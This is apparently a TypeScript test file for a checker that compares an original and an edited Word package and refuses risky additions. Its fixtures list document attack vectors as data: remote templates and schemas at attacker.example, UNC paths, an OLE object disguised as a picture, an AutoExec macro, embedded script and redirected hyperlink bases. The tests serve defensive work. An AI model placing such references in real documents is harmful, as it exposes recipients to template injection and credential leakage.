import { CFB } from '@e965/xlsx';
import { expect, it } from 'vitest';
import { type ZipParts, openZipOf } from '../zip/zip-parts.ts';
import { comparePackages } from './compare-packages.ts';

const names = [
  'w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"',
  'r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"',
  's="http://purl.oclc.org/ooxml/officeDocument/relationships"',
  'a="http://schemas.openxmlformats.org/drawingml/2006/main"',
  'wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"',
  'v="urn:schemas-microsoft-com:vml"',
  'o="urn:schemas-microsoft-com:office:office"',
].map((one) => `xmlns:${one}`);
const type = (name: string): string => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`;
const relation = (id: string, kind: string, target: string, mode = 'Internal'): string =>
  `<Relationship Id="${id}" Type="${type(kind)}" Target="${target}" TargetMode="${mode}"/>`;
/** A link that may be added, whatever uses it, and a picture. */
const relations = relation('web', 'hyperlink', 'https://attacker.example/a', 'External') + relation('own', 'image', 'media/a.png');

interface Texts {
  body?: string;
  settings?: string;
  /** Relationships of the document. */
  rels?: string;
  /** The part with properties of the document. */
  properties?: string;
}

function packageOf({ body = '', settings = '', rels = relations, properties }: Texts): Promise<ZipParts> {
  const relationships = (content: string) =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${content}</Relationships>`;
  const root = (name: string, content: string) => `<w:${name} ${names.join(' ')}>${content}</w:${name}>`;
  const parts: Record<string, string> = {
    '[Content_Types].xml':
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/></Types>',
    'word/document.xml': root('document', `<w:body><w:p>${body}</w:p></w:body>`),
    'word/_rels/document.xml.rels': relationships(rels),
    'word/settings.xml': root('settings', settings),
    'word/_rels/settings.xml.rels': relationships(relation('web', 'hyperlink', 'https://attacker.example/a.dotm', 'External')),
    'word/media/a.png': 'bytes',
    ...(properties !== undefined && { 'docProps/app.xml': properties }),
  };
  const file = CFB.utils.cfb_new();
  for (const [name, text] of Object.entries(parts)) CFB.utils.cfb_add(file, `/${name}`, Buffer.from(text));
  return openZipOf(Buffer.from(CFB.write(file, { type: 'buffer', fileType: 'zip' }) as Uint8Array), 1 << 20);
}

const refused = async (before: Texts, after: Texts): Promise<string[]> =>
  (await comparePackages(await packageOf(before), await packageOf(after), 'edited')).map(({ part, kind }) => `${kind} ${part}`);

it.each([
  ['a link', '<w:hyperlink r:id="web"/>'],
  ['a link of a picture', '<a:hlinkClick r:id="web"/>'],
  ['a picture', '<a:blip r:embed="own"/>'],
  ['an older picture', '<v:imagedata r:id="own" o:title="a"/>'],
  ['an older link', '<v:shape href="https://partner.example/"/>'],
])('takes %s that was added', async (_, body) => {
  expect(await refused({}, { body })).toEqual([]);
});

it.each([
  ['a picture at the address of a link', '<a:blip r:link="web"/>'],
  ['the same in the other edition of the standard', '<a:blip s:link="web"/>'],
  ['an older picture at the address of a link', '<v:imagedata r:href="web"/>'],
  ['a picture at an address', '<v:imagedata src="https://attacker.example/a.png"/>'],
  ['a fill at an address', '<v:fill o:althref="https://attacker.example/a.png"/>'],
  ['an older link to a file', '<v:shape href="file:///c:/a.exe"/>'],
  ['a text at the address of a link', '<w:altChunk r:id="web"/>'],
  ['a text that is said to be a picture', '<w:altChunk r:id="own"/>'],
  ['a program that is said to be a picture', '<o:OLEObject r:id="own"/>'],
  ['a picture by an older name', '<v:shape o:relid="web"/>'],
  ['a page of the web as a video', '<w:r><wp15:webVideoPr embeddedHtml="&lt;script&gt;" h="1" w="1"/></w:r>'],
  ['a program of the web', '<w:sdt><w:sdtPr><wp15:webExtensionLinked/></w:sdtPr></w:sdt>'],
  ['a macro of a form field', '<w:ffData><w:entryMacro w:val="AutoExec"/></w:ffData>'],
])('refuses what was added: %s', async (_, body) => {
  expect(await refused({}, { body })).toEqual(['foreign word/document.xml']);
  expect(await refused({ body }, { body: `${body}<w:r/>` })).toEqual([]);
});

it.each([
  ['a template at the address of a link', '<w:attachedTemplate r:id="web"/>'],
  ['the source of a mail merge', '<w:mailMerge><w:connectString w:val="Data Source=a"/></w:mailMerge>'],
  ['the address of a smart tag', '<w:smartTagType w:namespaceuri="urn:x" w:name="y" w:url="https://attacker.example/x"/>'],
  ['a schema', '<w:attachedSchema w:val="https://attacker.example/x.xsd"/>'],
  ['the place of a schema', '<w:schemaLibrary><w:schema w:uri="urn:x" w:schemaLocation="\\\\attacker.example\\x.xsd"/></w:schemaLibrary>'],
  ['a protection with a password', '<w:documentProtection w:edit="readOnly" w:enforcement="1" w:hash="x" w:salt="y"/>'],
  ['a password for writing', '<w:writeProtection w:recommended="1" w:hashValue="x" w:saltValue="y"/>'],
])('refuses settings that were added: %s', async (_, settings) => {
  expect(await refused({}, { settings })).toEqual(['foreign word/settings.xml']);
  expect(await refused({ settings }, { settings: `${settings}<w:zoom w:percent="90"/>` })).toEqual([]);
});

it('takes a protection without a password, as it keeps nobody out', async () => {
  expect(await refused({}, { settings: '<w:documentProtection w:edit="trackedChanges" w:enforcement="1"/>' })).toEqual([]);
});

it.each([
  ['http://attacker.example/word/media/a.png', 'image'],
  ['//attacker.example/word/media/a.png', 'image'],
  ['\\\\attacker.example\\word\\media\\a.png', 'image'],
  ['file://attacker.example/word/media/a.png', 'hyperlink'],
])('refuses an address that is said to be in the package: %s', async (target, kind) => {
  const [rels, body] = [relations + relation('far', kind, target), '<a:blip r:embed="far"/>'];
  expect(await refused({}, { rels, body })).not.toEqual([]);
  const unnamed = rels.replaceAll(' TargetMode="Internal"', '');
  expect(await refused({}, { rels: unnamed, body })).not.toEqual([]);
  expect(await refused({ rels, body }, { rels, body: body + body })).toEqual([]);
});

it('takes a picture that is added at a place in the package', async () => {
  const rels = relations + relation('far', 'image', '/word/media/a.png');
  expect(await refused({}, { rels, body: '<a:blip r:embed="far"/>' })).toEqual([]);
});

it('properties that change where links lead stay as they were', async () => {
  const own = (content: string) => `<Properties xmlns="urn:own" xmlns:vt="urn:types">${content}</Properties>`;
  const base = (address: string) => own(`<Company>a</Company><HyperlinkBase>${address}</HyperlinkBase>`);
  const custom = (name: string) =>
    own(`<property fmtid="{0}" pid="2" name="${name}"><vt:lpwstr>file://attacker.example/</vt:lpwstr></property>`);
  expect(await refused({}, { properties: own('<Company>a</Company>') })).toEqual([]);
  expect(await refused({}, { properties: base('') })).toEqual([]);
  expect(await refused({}, { properties: base('file://attacker.example/') })).toEqual(['foreign docProps/app.xml']);
  expect(await refused({ properties: base('a') }, { properties: base('https://attacker.example/') })).toEqual(['foreign docProps/app.xml']);
  expect(await refused({ properties: base('a') }, { properties: base('a') + '\n' })).toEqual([]);
  expect(await refused({}, { properties: custom('_PID_LINKBASE') })).toEqual(['foreign docProps/app.xml']);
  expect(await refused({}, { properties: custom('Client') })).toEqual([]);
});

it('what was there stays where it led', async () => {
  const merge = (source: string): string => `<w:mailMerge><w:connectString w:val="${source}"/></w:mailMerge>`;
  expect(await refused({ settings: merge('a') }, { settings: merge('b') })).toEqual(['foreign word/settings.xml']);
  const rels = (id: string, to: string) => relations + relation(id, 'image', `https://partner.example/${to}`, 'External');
  const [body, renumbered] = ['<a:blip r:link="far"/>', '<a:blip r:link="other"/>'];
  expect(await refused({ body, rels: rels('far', 'a') }, { body: renumbered, rels: rels('other', 'a') })).toEqual([]);
  expect(await refused({ body, rels: rels('far', 'a') }, { body: '<a:blip r:link="web"/>', rels: rels('far', 'a') })).toEqual([
    'foreign word/document.xml',
  ]);
});
